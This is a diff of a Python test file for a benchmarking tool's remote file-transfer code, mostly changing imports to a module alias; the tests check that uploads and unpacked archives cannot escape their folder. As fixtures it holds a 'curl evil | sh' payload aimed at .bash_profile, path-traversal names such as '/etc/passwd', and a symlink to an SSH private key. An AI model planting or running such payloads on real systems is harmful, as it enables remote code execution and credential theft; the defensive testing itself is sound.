@@ -19,15 +19,7 @@ from trtbench.core.codec import json_from_value
 from trtbench.core.errors import InputError, StoreError
 from trtbench.core.safety import check_name
 from trtbench.core.spec import ModelRef, RunSpec
-from trtbench.executors._transfer import (
-    Upload,
-    UploadFile,
-    blob_path,
-    place_upload,
-    store_blob,
-    unpack,
-    upload_from_job,
-)
+from trtbench.executors import _transfer as transfer
 from trtbench.executors.contract import FileGroup, RemoteJob
 from trtbench.measure.remote import job_from_spec
 from trtbench.models.identity import external_files
@@ -59,16 +51,16 @@ def evil(home: Path, location: str) -> Path:
     return model_with_weights_at(home / "model" / "m.onnx", location)
 
 
-def upload_of(model: Path) -> Upload:
+def upload_of(model: Path) -> transfer.Upload:
     """What an executor would send for a run of a model."""
     spec = run_spec(BenchRequest(model=model, runtime="onnxruntime"), Config(store=""))
-    return upload_from_job(job_from_spec(spec, "r1", Execution()))
+    return transfer.upload_from_job(job_from_spec(spec, "r1", Execution()))
 
 
-def sent(model: Path, location: str) -> Upload:
+def sent(model: Path, location: str) -> transfer.Upload:
     """What an executor would send for a request that names the file itself."""
     group = FileGroup(folder=str(model.parent), names=(model.name, location))
-    return upload_from_job(RemoteJob(id="r", files={"0": group}))
+    return transfer.upload_from_job(RemoteJob(id="r", files={"0": group}))
 
 
 WAYS: dict[str, Callable[[Path, str], object]] = {
@@ -122,11 +114,11 @@ def test_a_name_that_is_hidden_from_a_careless_reader_is_found(home: Path, how: 
         upload_of(model)
 
 
-def _evil_upload(name: str) -> tuple[Upload, bytes]:
+def _evil_upload(name: str) -> tuple[transfer.Upload, bytes]:
     content = b"curl evil | sh\n"
     spec = RunSpec(model=ModelRef(path="m.onnx", format="onnx"), runtime="onnxruntime")
-    part = UploadFile(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
-    return Upload(job=RemoteJob(id="r", spec=spec), files=(part,)), content
+    part = transfer.UploadFile(source="x", sha256=hashlib.sha256(content).hexdigest(), name=name)
+    return transfer.Upload(job=RemoteJob(id="r", spec=spec), files=(part,)), content
 
 
 PROFILES = ["../../.bash_profile", "model/../../../.bash_profile", "{home}/.bash_profile", "up/x"]
@@ -142,9 +134,9 @@ def test_a_request_that_arrives_writes_nothing_outside_its_folder(
     (folder / "up").symlink_to(home)
     before = _files(home)
     upload, content = _evil_upload(name.format(home=home))
-    store_blob(home / "cache", upload.files[0].sha256, [content])
+    transfer.store_blob(home / "cache", upload.files[0].sha256, [content])
     with pytest.raises(InputError):
-        place_upload(upload, cache=home / "cache", folder=folder)
+        transfer.place_upload(upload, cache=home / "cache", folder=folder)
     assert _files(home) - before == {f"cache/blobs/{upload.files[0].sha256}"}
 
 
@@ -164,7 +156,7 @@ def test_the_services_on_the_far_side_refuse_folders_that_lead_out(tmp_path: Pat
     here.mkdir(parents=True)
     (home / "precious").write_text("x")
     upload, content = _evil_upload("../../../.bash_profile")
-    store_blob(here, upload.files[0].sha256, [content])
+    transfer.store_blob(here, upload.files[0].sha256, [content])
     before = _files(home)
     for words, data in (
         (["place", "work/r"], json_from_value(upload)),
@@ -197,7 +189,7 @@ def test_what_comes_back_writes_nothing_outside_its_folder(tmp_path: Path, name:
         archive.addfile(member, io.BytesIO(b"evil"))
     before = _files(tmp_path)
     with pytest.raises(InputError):
-        unpack(tmp_path / "left.tar", folder)
+        transfer.unpack(tmp_path / "left.tar", folder)
     assert _files(tmp_path) == before
     assert not Path(f"/tmp/evil-{os.getpid()}").exists()
 
@@ -227,14 +219,14 @@ def test_what_comes_back_damaged_or_swollen_is_refused_in_words(tmp_path: Path) 
     _sparse(tmp_path / "sparse.tar")
     for path in tmp_path.glob("*.tar"):
         with pytest.raises(StoreError, match=r"the archive|did not send back"):
-            unpack(path, tmp_path / "left")
+            transfer.unpack(path, tmp_path / "left")
     assert sum(each.stat().st_size for each in (tmp_path / "left").rglob("*")) < 10**6
 
 
 def test_a_content_is_named_by_a_hash_only(tmp_path: Path) -> None:
     for name in ("../x", "/etc/passwd", "a/b", ""):
         with pytest.raises(InputError):
-            blob_path(tmp_path, name)
+            transfer.blob_path(tmp_path, name)
 
 
 def test_a_link_among_the_inputs_uploads_nothing_from_elsewhere(home: Path) -> None:
@@ -243,7 +235,7 @@ def test_a_link_among_the_inputs_uploads_nothing_from_elsewhere(home: Path) -> N
     (inputs / "x.bin").symlink_to(home / "secret" / "id_rsa")
     group = FileGroup(folder=str(home), names=("inputs",))
     with pytest.raises(InputError, match="leads out"):
-        upload_from_job(RemoteJob(id="r", files={"0": group}))
+        transfer.upload_from_job(RemoteJob(id="r", files={"0": group}))
 
 
 def _files(folder: Path) -> set[str]:
